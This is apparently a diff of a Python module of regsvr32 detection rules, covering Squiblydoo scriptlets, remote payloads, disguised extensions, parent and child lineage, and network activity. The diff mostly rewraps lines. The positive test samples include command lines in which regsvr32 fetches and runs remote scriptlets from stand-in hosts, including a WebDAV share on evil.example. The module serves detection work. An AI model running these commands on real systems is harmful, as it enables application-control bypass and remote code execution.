@@ -108,14 +108,20 @@ def _clip(text, n=160):
 
 @rule("R32-001", "Scriptlet run through scrobj.dll (Squiblydoo)",
       COMMAND_LINE, risk=85, family="scriptlets_and_remote_payloads", evidence="scriptlet",
-      techniques=(T,), sources=("L01", "QOMPLX", "Splunk 070e9b80", "CAR-2019-04-003", "Elastic EP 0524c24c", "Fibratus"),
-      description=("regsvr32 hands a scriptlet to scrobj.dll's DllInstall through /i:, local or remote: the "
-                   "classic application-control bypass. Requires /i: so that re-registering scrobj.dll "
-                   "itself (a Windows Script Host repair step) stays quiet."),
+      techniques=(T,),
+      sources=("L01", "QOMPLX", "Splunk 070e9b80", "CAR-2019-04-003", "Elastic EP 0524c24c",
+               "Fibratus"),
+      description=("regsvr32 hands a scriptlet to scrobj.dll's DllInstall through /i:, local or "
+                   "remote: the classic application-control bypass. Requires /i: so that "
+                   "re-registering scrobj.dll itself (a Windows Script Host repair step) stays "
+                   "quiet."),
       positives=(
         "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
         "regsvr32.exe /s /u /i:C:\\Users\\Public\\file.sct scrobj.dll",
-        {"EventCode": "4688", "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe", "ParentProcessName": "C:\\Windows\\System32\\cmd.exe", "CommandLine": 'regsvr32 /u /s /i:"http://198.51.100.7/x.sct" SCROBJ.DLL', "Image": None, "ParentImage": None},),
+        {"EventCode": "4688", "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe",
+         "ParentProcessName": "C:\\Windows\\System32\\cmd.exe",
+         "CommandLine": 'regsvr32 /u /s /i:"http://198.51.100.7/x.sct" SCROBJ.DLL', "Image": None,
+         "ParentImage": None},),
       negatives=(
         "regsvr32 /s scrobj.dll",
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
@@ -130,8 +136,8 @@ def squiblydoo(inv):
 @rule("R32-002", "Module or scriptlet fetched from a URL",
       COMMAND_LINE, risk=90, family="scriptlets_and_remote_payloads", evidence="remote",
       techniques=(T, "T1105"), sources=("L03", "QOMPLX", "Sigma 867356ee", "Sigma 8e2b24c9"),
-      description=("A /i: argument or module given as an http, https, ftp or file URL: regsvr32 downloads "
-                   "and runs it."),
+      description=("A /i: argument or module given as an http, https, ftp or file URL: regsvr32 "
+                   "downloads and runs it."),
       positives=(
         "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
         'regsvr32 -s -u "-i:https://cdn.example.net/a.sct" x.dll',
@@ -150,8 +156,8 @@ def remote_url(inv):
 @rule("R32-003", "Payload served from a raw or encoded IP address",
       COMMAND_LINE, risk=90, family="scriptlets_and_remote_payloads", evidence="remote",
       techniques=(T, "T1105"), sources=("L04", "Sigma 2dd2c217"),
-      description=("The URL or share host is an IP literal, in any notation inet_aton accepts: dotted, hex, "
-                   "octal, one integer, short forms or IPv6."),
+      description=("The URL or share host is an IP literal, in any notation inet_aton accepts: "
+                   "dotted, hex, octal, one integer, short forms or IPv6."),
       positives=(
         "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
         "regsvr32 /s /u /i:http://0x0a010203/a.sct scrobj.dll",
@@ -174,11 +180,12 @@ def ip_host(inv):
 @rule("R32-004", "Scriptlet-style /i: path or URL given to a module other than scrobj.dll",
       COMMAND_LINE, risk=70, family="scriptlets_and_remote_payloads", evidence="scriptlet",
       techniques=(T,), sources=("L02", "Elastic EP 0524c24c", "Fibratus"),
-      description=("An /i: argument that is a path or URL, handed to some other module: a renamed or copied "
-                   "scrobj.dll runs scriptlets exactly like the original."),
+      description=("An /i: argument that is a path or URL, handed to some other module: a "
+                   "renamed or copied scrobj.dll runs scriptlets exactly like the original."),
       positives=(
         "regsvr32 /s /u /i:http://example.com/a.sct C:\\Users\\Public\\x.dll",
-        {"CommandLine": "regsvr32 /u /i:C:\\ProgramData\\a.sct .\\jabber.dll", "CurrentDirectory": "C:\\ProgramData\\"},),
+        {"CommandLine": "regsvr32 /u /i:C:\\ProgramData\\a.sct .\\jabber.dll",
+         "CurrentDirectory": "C:\\ProgramData\\"},),
       negatives=(
         "regsvr32 /s /n /u /i:http://203.0.113.9/pay.sct scrobj.dll",
         'regsvr32 /s /n /i:user "C:\\Program Files\\A\\b.dll"',))
@@ -191,10 +198,11 @@ def renamed_scrobj(inv):
 
 
 @rule("R32-005", "/i without /n: DllInstall and DllRegisterServer both run",
-      COMMAND_LINE, risk=30, family="implicit_dllregisterserver_and_odd_invocations", evidence="invocation",
+      COMMAND_LINE, risk=30, family="implicit_dllregisterserver_and_odd_invocations",
+      evidence="invocation",
       techniques=(T,), sources=("L05", "L07", "Sigma b236190c", "Splunk f421c250", "Fibratus"),
-      description=("With /i and no /n, regsvr32 calls the module's DllInstall and then its DllRegisterServer "
-                   "(DllUnregisterServer with /u): two entry points of code."),
+      description=("With /i and no /n, regsvr32 calls the module's DllInstall and then its "
+                   "DllRegisterServer (DllUnregisterServer with /u): two entry points of code."),
       positives=(
         'regsvr32 /s /i "C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll"',
         "regsvr32 \u2013s \u2013i:x C:\\Tools\\a.dll",),
@@ -210,14 +218,17 @@ def install_without_n(inv):
 
 
 @rule("R32-006", "Silent DllRegisterServer call on a module outside the system and Program Files",
-      COMMAND_LINE, risk=15, family="implicit_dllregisterserver_and_odd_invocations", evidence="invocation",
+      COMMAND_LINE, risk=15, family="implicit_dllregisterserver_and_odd_invocations",
+      evidence="invocation",
       techniques=(T,), sources=("L06", "L08", "Sigma ce2c44b5", "Splunk c9ef7dc4"),
-      description=("/s or /e, no /i and no /u, and a module (resolved against the working directory) that is "
-                   "not under Windows or Program Files. Reproduces Sigma ce2c44b5 on the parsed module, so "
-                   "the image path in the command line no longer hides it."),
+      description=("/s or /e, no /i and no /u, and a module (resolved against the working "
+                   "directory) that is not under Windows or Program Files. Reproduces Sigma "
+                   "ce2c44b5 on the parsed module, so the image path in the command line no "
+                   "longer hides it."),
       positives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Users\\alice\\Desktop\\x.dll",
-        {"CommandLine": "regsvr32.exe /s payload.dll", "CurrentDirectory": "C:\\Users\\alice\\Downloads\\"},
+        {"CommandLine": "regsvr32.exe /s payload.dll",
+         "CurrentDirectory": "C:\\Users\\alice\\Downloads\\"},
         " /s C:\\AtomicRedTeam\\atomics\\T1117\\bin\\AllTheThingsx86.dll",),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
@@ -252,13 +263,16 @@ USER_FILE_FOLDERS = frozenset(("Downloads", "Desktop", "Documents"))
 
 
 @rule("R32-007", "Module or scriptlet in a user-writable staging folder",
-      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions", evidence="location",
-      techniques=(T,), sources=("L09", "Sigma 9525dc73", "Elastic EP 5db08297", "Elastic cff92c41", "Splunk 62732736"),
-      description=("A module or /i: scriptlet where payloads are dropped: Users\\Public, any Temp folder "
-                   "(also Windows\\Temp and Windows\\Tasks), or right in ProgramData, AppData or the "
-                   "profile rather than in a folder of its own, after resolving 8.3 names, forward "
-                   "slashes, '..' and %VARIABLES%. Per-user installs have a folder of their own "
-                   "(R32-040); Downloads, Desktop and Documents are R32-052."),
+      COMMAND_LINE, risk=60, family="suspicious_paths_and_disguised_extensions",
+      evidence="location",
+      techniques=(T,),
+      sources=("L09", "Sigma 9525dc73", "Elastic EP 5db08297", "Elastic cff92c41",
+               "Splunk 62732736"),
+      description=("A module or /i: scriptlet where payloads are dropped: Users\\Public, any Temp "
+                   "folder (also Windows\\Temp and Windows\\Tasks), or right in ProgramData, "
+                   "AppData or the profile rather than in a folder of its own, after resolving "
+                   "8.3 names, forward slashes, '..' and %VARIABLES%. Per-user installs have a "
+                   "folder of their own (R32-040); Downloads, Desktop and Documents are R32-052."),
       positives=(
         "regsvr32.exe /s C:\\Users\\Public\\payload.dll",
         "regsvr32 /s C:/Users/Public/x.dat",
@@ -279,9 +293,10 @@ def user_writable(inv):
 @rule("R32-008", "Module with a non-module extension in a user-writable folder",
       COMMAND_LINE, risk=70, family="suspicious_paths_and_disguised_extensions", evidence="format",
       techniques=(T,), sources=("ESCU 62732736", "L09", "L11", "Sigma 4fcac6eb", "Sigma e6eb5a96"),
-      description=("A module in a user-writable folder whose extension is not .dll, .ocx, .ax or .cpl: the "
-                   "Splunk ESCU seed analytic, fixed to read the module's own extension rather than any "
-                   "'.dll' anywhere in the line (which 'x.dll.jpg' or a decoy argument defeat)."),
+      description=("A module in a user-writable folder whose extension is not .dll, .ocx, .ax or "
+                   ".cpl: the Splunk ESCU seed analytic, fixed to read the module's own "
+                   "extension rather than any '.dll' anywhere in the line (which 'x.dll.jpg' or "
+                   "a decoy argument defeat)."),
       positives=(
         "regsvr32 /s C:\\ProgramData\\x.tmp",
         "regsvr32 /s C:\\Users\\bob\\AppData\\Roaming\\a.dll.jpg /i:a.dll",
@@ -301,11 +316,12 @@ def writable_non_module(inv):
 
 
 @rule("R32-009", "Module or scriptlet in a folder malware favours",
-      COMMAND_LINE, risk=75, family="suspicious_paths_and_disguised_extensions", evidence="location",
+      COMMAND_LINE, risk=75, family="suspicious_paths_and_disguised_extensions",
+      evidence="location",
       techniques=(T,), sources=("L10", "Sigma 327ff235", "Elastic cff92c41"),
-      description=("PerfLogs, C:\\Temp, Windows\\Tracing, Registration\\CRMLog, System32\\com\\dmp, FxsTmp, spool "
-                   "folders, MachineKeys, Tasks, the Recycle Bin and other Windows subfolders that "
-                   "legitimate software does not register modules from."),
+      description=("PerfLogs, C:\\Temp, Windows\\Tracing, Registration\\CRMLog, System32\\com\\dmp, "
+                   "FxsTmp, spool folders, MachineKeys, Tasks, the Recycle Bin and other Windows "
+                   "subfolders that legitimate software does not register modules from."),
       positives=(
         "regsvr32 /s C:\\PerfLogs\\a.dll",
         "regsvr32 /s C:\\Windows\\System32\\spool\\drivers\\color\\x.dll",),
@@ -321,9 +337,11 @@ def suspicious_folder(inv):
 
 @rule("R32-010", "Module disguised as an image, document, log or temp file",
       COMMAND_LINE, risk=75, family="suspicious_paths_and_disguised_extensions", evidence="format",
-      techniques=(T, "T1036.008"), sources=("L11", "Sigma 089fc3d2", "Elastic EP 5db08297", "Sigma 4fcac6eb"),
-      description=("The module's own extension is one of an image, data, document, log or temp file (.jpg, "
-                   ".png, .dat, .log, .tmp, .txt, .pdf ...), quoted or not, trailing blanks or not."),
+      techniques=(T, "T1036.008"),
+      sources=("L11", "Sigma 089fc3d2", "Elastic EP 5db08297", "Sigma 4fcac6eb"),
+      description=("The module's own extension is one of an image, data, document, log or temp "
+                   "file (.jpg, .png, .dat, .log, .tmp, .txt, .pdf ...), quoted or not, trailing "
+                   "blanks or not."),
       positives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Users\\bob\\AppData\\Local\\Temp\\shell32.jpg",
         "regsvr32.exe -s meow.txt",
@@ -341,8 +359,9 @@ def disguised_extension(inv):
 @rule("R32-011", "Module with an unusual extension",
       COMMAND_LINE, risk=55, family="suspicious_paths_and_disguised_extensions", evidence="format",
       techniques=(T,), sources=("L12", "Sigma 50919691"),
-      description=("The module's extension is neither a module's (.dll, .ocx, .ax, .cpl), nor a disguise "
-                   "(R32-010), nor missing (the loader adds .dll): .exe, .bav, .ppl, .xyz ..."),
+      description=("The module's extension is neither a module's (.dll, .ocx, .ax, .cpl), nor a "
+                   "disguise (R32-010), nor missing (the loader adds .dll): .exe, .bav, .ppl, "
+                   ".xyz ..."),
       positives=(
         "regsvr32 /s C:\\Tools\\stage2.exe",
         "regsvr32 /s x.foo",),
@@ -377,7 +396,8 @@ def unc_share(inv):
 @rule("R32-013", "Module or scriptlet fetched over WebDAV",
       COMMAND_LINE, risk=80, family="scriptlets_and_remote_payloads", evidence="remote",
       techniques=(T, "T1105"), sources=("L13", "Elastic EP 4bdd5646", "Elastic EP 5db08297"),
-      description=("A share path that WebDAV serves: host@SSL, host@80 or @443, or a DavWWWRoot folder."),
+      description=("A share path that WebDAV serves: host@SSL, host@80 or @443, or a DavWWWRoot "
+                   "folder."),
       positives=(
         "regsvr32 /s \\\\evil.example@SSL\\DavWWWRoot\\x.dll",
         "regsvr32 /s \\\\files.example.com@80\\share\\x.dll",),
@@ -393,27 +413,34 @@ def webdav(inv):
 
 @rule("R32-014", "regsvr32 started by a script host",
       actor(PROCESS), risk=55, family="parent_lineage", evidence="lineage",
-      techniques=(T, "T1059"), sources=("L14", "Sigma ab37a6ec", "Splunk 4aa5d062", "Splunk 1f35e1da", "Sentinel bef2bd1b"),
-      description=("Parent is mshta, wscript or cscript. cmd.exe is left out (installer batch files "
-                   "start regsvr32 all day) and PowerShell is R32-042."),
+      techniques=(T, "T1059"),
+      sources=("L14", "Sigma ab37a6ec", "Splunk 4aa5d062", "Splunk 1f35e1da",
+               "Sentinel bef2bd1b"),
+      description=("Parent is mshta, wscript or cscript. cmd.exe is left out (installer batch "
+                   "files start regsvr32 all day) and PowerShell is R32-042."),
       positives=(
-        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll", "ParentImage": "C:\\Windows\\System32\\mshta.exe"},
+        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
+         "ParentImage": "C:\\Windows\\System32\\mshta.exe"},
         {"CommandLine": "regsvr32 /s x.dll", "ParentImage": "C:\\Windows\\System32\\wscript.exe"},),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll", "ParentImage": "C:\\Windows\\explorer.exe"},
-        {"CommandLine": "regsvr32 /s x.dll", "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},))
+        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
+         "ParentImage": "C:\\Windows\\explorer.exe"},
+        {"CommandLine": "regsvr32 /s x.dll",
+         "ParentImage": "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"},))
 def script_parent(ev):
     return _parent_in(ev, SCRIPT_PARENTS, "script host")
 
 
 @rule("R32-015", "regsvr32 started by an Office application",
       actor(PROCESS), risk=75, family="parent_lineage", evidence="lineage",
-      techniques=(T, "T1204.002"), sources=("L15", "Splunk 2d9fc90c", "Sigma 438025f9", "Elastic a624863f", "Sigma e6eb5a96"),
-      description=("Parent is Word, Excel, PowerPoint, Outlook, OneNote, Access, Publisher, Visio or the "
-                   "Equation Editor: a macro or exploit at work."),
+      techniques=(T, "T1204.002"),
+      sources=("L15", "Splunk 2d9fc90c", "Sigma 438025f9", "Elastic a624863f", "Sigma e6eb5a96"),
+      description=("Parent is Word, Excel, PowerPoint, Outlook, OneNote, Access, Publisher, "
+                   "Visio or the Equation Editor: a macro or exploit at work."),
       positives=(
-        {"CommandLine": "regsvr32 -s C:\\Users\\bob\\AppData\\Local\\Temp\\a.ocx", "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"},),
+        {"CommandLine": "regsvr32 -s C:\\Users\\bob\\AppData\\Local\\Temp\\a.ocx",
+         "ParentImage": "C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE"},),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",))
 def office_parent(ev):
@@ -422,16 +449,21 @@ def office_parent(ev):
 
 @rule("R32-016", "regsvr32 started by a server or remote-execution host",
       actor(PROCESS), risk=60, family="parent_lineage", evidence="lineage",
-      techniques=(T, "T1047"), sources=("L16", "Splunk 95a455f0", "Splunk ba9e1954", "Splunk 09e5c72a", "Sigma 8a582fe2", "Sigma d52d2e87"),
-      description=("Parent is WmiPrvSE, WsmProvHost, WinRS, services, svchost, MMC, a web, database or Java "
-                   "server, hh, msdt or fodhelper: remote execution, exploitation or a persisted launch "
-                   "rather than an installer."),
+      techniques=(T, "T1047"),
+      sources=("L16", "Splunk 95a455f0", "Splunk ba9e1954", "Splunk 09e5c72a", "Sigma 8a582fe2",
+               "Sigma d52d2e87"),
+      description=("Parent is WmiPrvSE, WsmProvHost, WinRS, services, svchost, MMC, a web, "
+                   "database or Java server, hh, msdt or fodhelper: remote execution, "
+                   "exploitation or a persisted launch rather than an installer."),
       positives=(
-        {"CommandLine": "regsvr32.exe /i C:\\x.dll", "ParentImage": "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"},
-        {"CommandLine": "regsvr32 /s C:\\inetpub\\a.dll", "ParentImage": "c:\\windows\\system32\\inetsrv\\w3wp.exe"},),
+        {"CommandLine": "regsvr32.exe /i C:\\x.dll",
+         "ParentImage": "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe"},
+        {"CommandLine": "regsvr32 /s C:\\inetpub\\a.dll",
+         "ParentImage": "c:\\windows\\system32\\inetsrv\\w3wp.exe"},),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll", "ParentImage": "C:\\Windows\\System32\\msiexec.exe"},))
+        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
+         "ParentImage": "C:\\Windows\\System32\\msiexec.exe"},))
 def server_parent(ev):
     return _parent_in(ev, SERVER_PARENTS, "server process")
 
@@ -439,14 +471,19 @@ def server_parent(ev):
 @rule("R32-017", "regsvr32 started a shell, script host or reconnaissance tool",
       child(), risk=80, family="children_of_regsvr32", evidence="behaviour",
       techniques=(T, "T1059"), sources=("L17", "Veramine", "Sigma 6f0947a4", "Splunk 61490da9"),
-      description=("A child of regsvr32 such as calc, cmd, PowerShell, wscript, mshta, rundll32, net, "
-                   "nltest, whoami, reg, schtasks or explorer: the registered code is running commands."),
+      description=("A child of regsvr32 such as calc, cmd, PowerShell, wscript, mshta, rundll32, "
+                   "net, nltest, whoami, reg, schtasks or explorer: the registered code is "
+                   "running commands."),
       positives=(
-        {"Image": "C:\\Windows\\System32\\calc.exe", "CommandLine": '"C:\\Windows\\System32\\calc.exe" ', "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},
-        {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami", "ParentImage": "C:\\Windows\\SysWOW64\\regsvr32.exe"},),
+        {"Image": "C:\\Windows\\System32\\calc.exe",
+         "CommandLine": '"C:\\Windows\\System32\\calc.exe" ',
+         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},
+        {"Image": "C:\\Windows\\System32\\cmd.exe", "CommandLine": "cmd.exe /c whoami",
+         "ParentImage": "C:\\Windows\\SysWOW64\\regsvr32.exe"},),
       negatives=(
         {"Image": "C:\\Windows\\System32\\calc.exe", "CommandLine": "calc.exe"},
-        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll", "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},))
+        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
+         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},))
 def suspicious_child(ev):
     if ev.image_name not in SUSPICIOUS_CHILDREN:
         return None
@@ -456,13 +493,16 @@ def suspicious_child(ev):
 @rule("R32-018", "regsvr32 started a child process",
       child(), risk=50, family="children_of_regsvr32", evidence="behaviour",
       techniques=(T,), sources=("CAR-2019-04-002", "Veramine", "L17"),
-      description=("Any child of regsvr32 other than regsvr32 itself (the 64-to-32-bit re-launch): "
-                   "registration code rarely starts programs. The default allowlist keeps WerFault crash "
-                   "reporting (-u -p) and wevtutil, as CAR does."),
+      description=("Any child of regsvr32 other than regsvr32 itself (the 64-to-32-bit "
+                   "re-launch): registration code rarely starts programs. The default allowlist "
+                   "keeps WerFault crash reporting (-u -p) and wevtutil, as CAR does."),
       positives=(
-        {"Image": "C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe", "CommandLine": "C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe", "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},),
+        {"Image": "C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe",
+         "CommandLine": "C:\\Users\\bob\\AppData\\Local\\Temp\\u.exe",
+         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},),
       negatives=(
-        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": " /s C:\\x\\a.dll", "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},
+        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": " /s C:\\x\\a.dll",
+         "ParentImage": "C:\\Windows\\System32\\regsvr32.exe"},
         {"Image": "C:\\Windows\\System32\\calc.exe", "CommandLine": "calc.exe"},))
 def any_child(ev):
     if ev.image_name in ("", REGSVR32):
@@ -472,19 +512,26 @@ def any_child(ev):
 
 @rule("R32-019", "Renamed regsvr32",
       actor(PROCESS), risk=80, family="renamed_or_relocated_binary", evidence="identity",
-      techniques=(T, "T1036.003"), sources=("L18", "Splunk 7349a9e9", "Sigma 0ba1da6d", "Elastic EP b0207677"),
+      techniques=(T, "T1036.003"),
+      sources=("L18", "Splunk 7349a9e9", "Sigma 0ba1da6d", "Elastic EP b0207677"),
       description=("The file is regsvr32 (OriginalFileName REGSVR32.EXE, or the file description "
-                   "'Microsoft(C) Register Server' where Sysmon logs no OriginalFileName, or, where the log "
-                   "has neither (4688), a command line only regsvr32 takes: a remote /i: scriptlet or "
-                   "scrobj.dll with /i:) but it runs under another name."),
+                   "'Microsoft(C) Register Server' where Sysmon logs no OriginalFileName, or, "
+                   "where the log has neither (4688), a command line only regsvr32 takes: a "
+                   "remote /i: scriptlet or scrobj.dll with /i:) but it runs under another name."),
       positives=(
         {"EventCode": "4688", "NewProcessName": "C:\\ProgramData\\jabber.exe", "Image": None,
          "CommandLine": "jabber.exe  /u /s /i:http://pastebin.example/raw/x .\\jabber.dll"},
-        {"Image": "C:\\Users\\Public\\svc.exe", "CommandLine": "svc.exe /s /u /i:http://example.com/a.sct scrobj.dll", "OriginalFileName": "REGSVR32.EXE"},
-        {"Image": "C:\\ProgramData\\jabber.exe", "CommandLine": "jabber.exe  /u /s /i:http://pastebin.example/raw/x .\\jabber.dll", "Description": "Microsoft(C) Register Server"},),
+        {"Image": "C:\\Users\\Public\\svc.exe",
+         "CommandLine": "svc.exe /s /u /i:http://example.com/a.sct scrobj.dll",
+         "OriginalFileName": "REGSVR32.EXE"},
+        {"Image": "C:\\ProgramData\\jabber.exe",
+         "CommandLine": "jabber.exe  /u /s /i:http://pastebin.example/raw/x .\\jabber.dll",
+         "Description": "Microsoft(C) Register Server"},),
       negatives=(
-        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll", "OriginalFileName": "REGSVR32.EXE"},
-        {"Image": "C:\\x\\tool.exe", "CommandLine": "C:\\x\\tool.exe", "OriginalFileName": "tool.exe"},))
+        {"CommandLine": "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
+         "OriginalFileName": "REGSVR32.EXE"},
+        {"Image": "C:\\x\\tool.exe", "CommandLine": "C:\\x\\tool.exe",
+         "OriginalFileName": "tool.exe"},))
 def renamed_binary(ev):
     if not ev.image_name or ev.image_name == REGSVR32:
         return None
@@ -499,11 +546,14 @@ def renamed_binary(ev):
 
 @rule("R32-020", "regsvr32.exe running from an unexpected folder",
       actor(PROCESS), risk=70, family="renamed_or_relocated_binary", evidence="identity",
-      techniques=(T, "T1036.005"), sources=("L19", "Sigma e4a6b256", "Splunk 326fdf44", "Elastic EP 35dedf0c", "Sigma 933f0bb5"),
-      description=("An image named regsvr32.exe outside System32, SysWOW64, WinSxS and the Windows servicing "
-                   "folders: a copy planted next to a payload or a look-alike."),
+      techniques=(T, "T1036.005"),
+      sources=("L19", "Sigma e4a6b256", "Splunk 326fdf44", "Elastic EP 35dedf0c",
+               "Sigma 933f0bb5"),
+      description=("An image named regsvr32.exe outside System32, SysWOW64, WinSxS and the "
+                   "Windows servicing folders: a copy planted next to a payload or a look-alike."),
       positives=(
-        {"Image": "C:\\Users\\Public\\regsvr32.exe", "CommandLine": "C:\\Users\\Public\\regsvr32.exe /c echo scrobj.exe /i:"},),
+        {"Image": "C:\\Users\\Public\\regsvr32.exe",
+         "CommandLine": "C:\\Users\\Public\\regsvr32.exe /c echo scrobj.exe /i:"},),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
         {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "regsvr32 /s x.dll"},))
@@ -516,9 +566,10 @@ def unexpected_home(ev):
 
 @rule("R32-021", "regsvr32 connected to a public address",
       actor(NETWORK), risk=70, family="network", evidence="network",
-      techniques=(T, "T1105"), sources=("L20", "Sigma c7e91a02", "Elastic fb02b8d3", "Splunk 2820f032"),
-      description=("An outbound connection by regsvr32 to an internet address: fetching a scriptlet or "
-                   "talking to a controller."),
+      techniques=(T, "T1105"),
+      sources=("L20", "Sigma c7e91a02", "Elastic fb02b8d3", "Splunk 2820f032"),
+      description=("An outbound connection by regsvr32 to an internet address: fetching a "
+                   "scriptlet or talking to a controller."),
       positives=(
         {"DestinationIp": "151.101.0.133"},
         {"DestinationIp": "104.20.208.21", "DestinationPort": "80"},),
@@ -532,8 +583,9 @@ def public_connection(ev):
 @rule("R32-022", "regsvr32 connected to a non-public address",
       actor(NETWORK), risk=30, family="network", evidence="network",
       techniques=(T,), sources=("L20", "Sigma c7e91a02"),
-      description=("An outbound connection by regsvr32 to a private, loopback, link-local or reserved "
-                   "address: internal staging servers and lateral movement; lower risk than a public one."),
+      description=("An outbound connection by regsvr32 to a private, loopback, link-local or "
+                   "reserved address: internal staging servers and lateral movement; lower risk "
+                   "than a public one."),
       positives=(
         {"DestinationIp": "10.1.2.3", "DestinationPort": "445"},),
       negatives=(
@@ -545,8 +597,8 @@ def private_connection(ev):
 @rule("R32-023", "regsvr32 resolved a host name",
       actor(DNS), risk=50, family="network", evidence="network",
       techniques=(T, "T1105"), sources=("L20", "Sigma 36e037c4", "Elastic 1fe3b299"),
-      description=("A DNS query by regsvr32 (Sysmon 22). The default allowlist keeps certificate revocation "
-                   "and OCSP hosts."),
+      description=("A DNS query by regsvr32 (Sysmon 22). The default allowlist keeps certificate "
+                   "revocation and OCSP hosts."),
       positives=(
         {"QueryName": "raw.githubusercontent.com"},),
       negatives=(
@@ -558,16 +610,20 @@ def dns_query(ev):
 
 
 @rule("R32-024", "regsvr32 run with no arguments",
-      COMMAND_LINE, risk=70, family="implicit_dllregisterserver_and_odd_invocations", evidence="invocation",
-      techniques=(T, "T1055"), sources=("L21", "Sigma a7c3d773", "Sigma 20384606", "Elastic EP 95601d8b"),
-      description=("regsvr32 with nothing to register does nothing by itself: a sacrificial process for "
-                   "injected code (Cobalt Strike spawnto)."),
+      COMMAND_LINE, risk=70, family="implicit_dllregisterserver_and_odd_invocations",
+      evidence="invocation",
+      techniques=(T, "T1055"),
+      sources=("L21", "Sigma a7c3d773", "Sigma 20384606", "Elastic EP 95601d8b"),
+      description=("regsvr32 with nothing to register does nothing by itself: a sacrificial "
+                   "process for injected code (Cobalt Strike spawnto)."),
       positives=(
-        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe", "CommandLine": "C:\\Windows\\SysWOW64\\regsvr32.exe"},
+        {"Image": "C:\\Windows\\SysWOW64\\regsvr32.exe",
+         "CommandLine": "C:\\Windows\\SysWOW64\\regsvr32.exe"},
         '"regsvr32.exe"  ',),
       negatives=(
         "C:\\Windows\\System32\\regsvr32.exe /s C:\\Windows\\System32\\msxml6.dll",
-        {"EventCode": "4688", "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe", "CommandLine": "", "Image": None, "ParentImage": None},))
+        {"EventCode": "4688", "NewProcessName": "C:\\Windows\\System32\\regsvr32.exe",
+         "CommandLine": "", "Image": None, "ParentImage": None},))
 def no_arguments(inv):
     if not inv.program or inv.args:
         return None
@@ -578,13 +634,15 @@ def no_arguments(inv):
 @rule("R32-025", "regsvr32 loaded an unsigned module from outside Windows and Program Files",
       actor(IMAGE_LOAD), risk=70, family="image_loads", evidence="load",
       techniques=(T,), sources=("CAR-2019-04-002", "Veramine", "L22"),
-      description=("Sysmon image load: Signed=false and the module is not under Windows or Program Files "
-                   "(the seed analytics' unsigned-load logic)."),
+      description=("Sysmon image load: Signed=false and the module is not under Windows or "
+                   "Program Files (the seed analytics' unsigned-load logic)."),
       positives=(
-        {"ImageLoaded": "C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll", "Signed": "false", "SignatureStatus": "Unavailable", "Signature": ""},),
+        {"ImageLoaded": "C:\\AtomicRedTeam\\atomics\\T1218.010\\bin\\AllTheThingsx86.dll",
+         "Signed": "false", "SignatureStatus": "Unavailable", "Signature": ""},),
       negatives=(
         {"ImageLoaded": "C:\\Windows\\System32\\msxml6.dll"},
-        {"ImageLoaded": "C:\\Program Files\\K-Lite Codec Pack\\Filters\\x.ax", "Signed": "false", "SignatureStatus": "Unavailable", "Signature": ""},))
+        {"ImageLoaded": "C:\\Program Files\\K-Lite Codec Pack\\Filters\\x.ax", "Signed": "false",
+         "SignatureStatus": "Unavailable", "Signature": ""},))
 def unsigned_outside(ev):
